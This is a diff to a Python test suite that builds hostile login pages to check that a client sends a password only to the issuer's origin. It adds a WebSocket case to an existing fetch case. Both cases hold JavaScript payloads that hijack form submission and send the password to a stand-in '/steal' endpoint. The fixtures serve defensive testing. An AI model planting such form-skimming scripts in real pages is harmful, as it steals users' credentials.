@@ -237,13 +237,19 @@ def _hostile_login_page(action: str, script: str = "") -> Answer:
 
 STEAL_BY_SCRIPT = """document.forms[0].onsubmit = event => { event.preventDefault();
   fetch("{elsewhere}/steal", {method: "POST", mode: "no-cors", body: new URLSearchParams(new FormData(event.target))}); };"""
+STEAL_BY_WEB_SOCKET = """document.forms[0].onsubmit = event => { event.preventDefault();
+  new WebSocket("{elsewhere}/steal?p=" + encodeURIComponent(document.getElementById("password").value)); };"""
 HOSTILE_LOGIN_PAGES = {  # how the page sends the password away: (login page, what the suite says)
     "form-action": (lambda issuer, elsewhere: _hostile_login_page(elsewhere + "/steal"), "is not the issuer's origin"),
     "plain-http": (lambda issuer, elsewhere: _hostile_login_page("http://login.example/steal"), "over plain HTTP"),
     "script": (lambda issuer, elsewhere: _hostile_login_page(
         "/account/login", STEAL_BY_SCRIPT.replace("{elsewhere}", elsewhere)), "is not the issuer's origin"),
     "redirect-307": (lambda issuer, elsewhere: _hostile_login_page("/account/login"), "is not the issuer's origin"),
+    "web-socket": (lambda issuer, elsewhere: _hostile_login_page("/account/login", STEAL_BY_WEB_SOCKET.replace(
+        "{elsewhere}", elsewhere.replace("http:", "ws:"))), "is not the issuer's origin"),
 }
+# What each page is refused; the others, the password in a POST.
+REFUSED = {"web-socket": "a secret in the address of a WebSocket"}
 
 
 @pytest.mark.parametrize("login, page", [
@@ -288,7 +294,7 @@ def test_the_password_goes_only_to_the_issuers_origin_whatever_the_login_page_sa
     output = result.stdout + result.stderr
     assert elsewhere.requests == [], "the password reached a server the issuer did not vouch for"
     assert result.returncode == 1, output[-3000:]
-    assert "refused to send password in POST " in output and said in output, output[-3000:]
+    assert f"refused to send {REFUSED.get(page, 'password in POST ')}" in output and said in output, output[-3000:]
     assert not [form for form in _every_encoding(PASSWORD) if form in output]
 
 # A real server's run, as a partner makes it: secrets from the environment, the login form's own
